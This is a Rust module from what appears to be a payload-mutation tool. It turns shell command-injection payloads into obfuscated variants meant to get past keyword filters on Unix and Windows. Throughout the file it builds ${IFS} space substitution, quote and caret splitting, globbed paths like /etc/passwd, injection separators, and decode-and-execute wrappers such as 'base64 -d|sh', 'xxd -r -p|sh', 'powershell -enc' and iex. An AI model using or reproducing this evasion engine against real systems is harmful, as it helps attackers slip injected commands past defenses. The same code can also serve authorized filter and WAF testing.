//! Shell command-injection evasions for POSIX shells and Windows
//! (cmd.exe / PowerShell).

use ::base64::engine::general_purpose::STANDARD;
use ::base64::Engine as _;
use rand::{Rng, RngCore};

use super::{map_bytes, Transform, VariantSet};
use crate::registry::TechniqueId;

/// Leading separators that start a new command after the injection point.
const UNIX_SEPARATORS: &[&str] = &[";", "&&", "||", "|", "\n", "`", "$("];

/// Applies `f` to each whitespace-separated word and re-joins with `sep`.
fn map_words<F>(payload: &str, sep: &str, f: F) -> String
where
    F: Fn(&str) -> String,
{
    payload.split(' ').map(|w| f(w)).collect::<Vec<_>>().join(sep)
}

/// Inserts `filler` after the first character of each word of at least two
/// letters, which is where most keyword filters anchor.
fn split_words(payload: &str, filler: &str) -> String {
    map_words(payload, " ", |word| {
        let mut chars = word.char_indices();
        match (chars.next(), chars.next()) {
            (Some((_, first)), Some((idx, _))) if first.is_ascii_alphabetic() => {
                format!("{}{}{}", first, filler, &word[idx..])
            }
            _ => word.to_string(),
        }
    })
}

fn interleave_letters(payload: &str, filler: &str) -> String {
    let mut out = String::with_capacity(payload.len() * 2);
    let mut prev_letter = false;
    for c in payload.chars() {
        let letter = c.is_ascii_alphanumeric();
        if letter && prev_letter {
            out.push_str(filler);
        }
        out.push(c);
        prev_letter = letter;
    }
    out
}

/// Globs every path segment after its first character: `/etc/passwd`
/// becomes `/e??/p?????`.
fn glob_paths(payload: &str) -> String {
    map_words(payload, " ", |word| {
        if !word.contains('/') {
            return word.to_string();
        }
        word.split('/')
            .map(|seg| {
                let mut chars = seg.chars();
                match chars.next() {
                    Some(first) => {
                        let rest = chars.count();
                        format!("{}{}", first, "?".repeat(rest))
                    }
                    None => String::new(),
                }
            })
            .collect::<Vec<_>>()
            .join("/")
    })
}

pub struct UnixCommandTransform;

impl Transform for UnixCommandTransform {
    fn id(&self) -> TechniqueId {
        TechniqueId::UnixCommand
    }

    fn basic(&self, payload: &str, out: &mut VariantSet) {
        out.push(payload.replace(' ', "${IFS}"));
        out.push(payload.replace(' ', "$IFS$9"));
        out.push(payload.replace(' ', "\t"));
        out.push(payload.replace(' ', "<"));
        if payload.contains(' ') {
            out.push(format!("{{{}}}", payload.split(' ').collect::<Vec<_>>().join(",")));
        }
        out.push(split_words(payload, "''"));
        out.push(split_words(payload, "\"\""));
        out.push(split_words(payload, "\\"));
    }

    fn medium(&self, payload: &str, out: &mut VariantSet, _rng: &mut dyn RngCore) {
        out.push(split_words(payload, "$@"));
        out.push(split_words(payload, "${u}"));
        out.push(glob_paths(payload));
        out.push(payload.replace('/', "${PATH:0:1}"));
        out.push(format!("{} #", payload));
        out.push(format!("{};#", payload));
        for sep in UNIX_SEPARATORS {
            let closing = match *sep {
                "`" => "`",
                "$(" => ")",
                _ => "",
            };
            out.push(format!("{}{}{}", sep, payload, closing));
        }
        out.push(format!(
            "echo {}|base64 -d|sh",
            STANDARD.encode(payload.as_bytes())
        ));
    }

    fn advanced(&self, payload: &str, out: &mut VariantSet, rng: &mut dyn RngCore) {
        let hex = map_bytes(payload, "", |b| format!("\\x{:02x}", b));
        let octal = map_bytes(payload, "", |b| format!("\\{:03o}", b));
        out.push(format!("$(printf '{}')", hex));
        out.push(format!("$'{}'", octal));
        out.push(format!(
            "$(echo '{}'|rev)",
            payload.chars().rev().collect::<String>()
        ));
        out.push(format!(
            "echo {}|xxd -r -p|sh",
            map_bytes(payload, "", |b| format!("{:02x}", b))
        ));
        out.push(format!("eval \"$(printf '{}')\"", hex));

        // Quotes at random letter boundaries.
        let mut quoted = String::with_capacity(payload.len() * 2);
        let mut prev_letter = false;
        for c in payload.chars() {
            let letter = c.is_ascii_alphanumeric();
            if letter && prev_letter && rng.gen_bool(0.4) {
                quoted.push_str(if rng.gen_bool(0.5) { "''" } else { "\"\"" });
            }
            quoted.push(c);
            prev_letter = letter;
        }
        out.push(quoted);
    }

    fn force_encode(&self, payload: &str) -> String {
        format!("$(printf '{}')", map_bytes(payload, "", |b| format!("\\x{:02x}", b)))
    }

    fn randomized(&self) -> bool {
        true
    }
}

/// PowerShell `-EncodedCommand` takes base64 of UTF-16LE.
fn powershell_encoded(payload: &str) -> String {
    let utf16: Vec<u8> = payload.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    STANDARD.encode(utf16)
}

pub struct WindowsCommandTransform;

impl Transform for WindowsCommandTransform {
    fn id(&self) -> TechniqueId {
        TechniqueId::WindowsCommand
    }

    fn basic(&self, payload: &str, out: &mut VariantSet) {
        out.push(interleave_letters(payload, "^"));
        out.push(split_words(payload, "\"\""));
        out.push(payload.replace(' ', ","));
        out.push(payload.replace(' ', ";"));
        out.push(split_words(payload, "^"));
    }

    fn medium(&self, payload: &str, out: &mut VariantSet, _rng: &mut dyn RngCore) {
        // %ProgramFiles:~10,1% expands to the space in "C:\Program Files".
        out.push(payload.replace(' ', "%ProgramFiles:~10,1%"));
        out.push(format!("cmd /c \"{}\"", payload));
        out.push(format!("cmd.exe /v:on /c \"{}\"", payload));
        out.push(format!("({})", payload));
        out.push(format!("@{}", payload));
        out.push(format!("&{}", payload));
        out.push(format!("|{}", payload));
        out.push(format!(
            "powershell -enc {}",
            powershell_encoded(payload)
        ));
    }

    fn advanced(&self, payload: &str, out: &mut VariantSet, rng: &mut dyn RngCore) {
        out.push(format!("set x={}&&call %x%", payload));
        out.push(format!("cmd /v:on /c \"set x={}&&!x!\"", payload));
        out.push(interleave_letters(payload, "`"));
        out.push(format!(
            "powershell -EncodedCommand {}",
            powershell_encoded(payload)
        ));

        let mid = payload.char_indices().nth(payload.chars().count() / 2).map(|(i, _)| i);
        if let Some(mid) = mid {
            let (left, right) = payload.split_at(mid);
            out.push(format!(
                "powershell -c \"iex ('{}'+'{}')\"",
                left.replace('\'', "''"),
                right.replace('\'', "''")
            ));
        }
        out.push(format!(
            "powershell -c \"iex ([char[]]({}) -join '')\"",
            map_bytes(payload, ",", |b| b.to_string())
        ));

        // Carets at random letter boundaries.
        let mut careted = String::with_capacity(payload.len() * 2);
        let mut prev_letter = false;
        for c in payload.chars() {
            let letter = c.is_ascii_alphanumeric();
            if letter && prev_letter && rng.gen_bool(0.5) {
                careted.push('^');
            }
            careted.push(c);
            prev_letter = letter;
        }
        out.push(careted);
    }

    fn force_encode(&self, payload: &str) -> String {
        format!("powershell -enc {}", powershell_encoded(payload))
    }

    fn randomized(&self) -> bool {
        true
    }
}
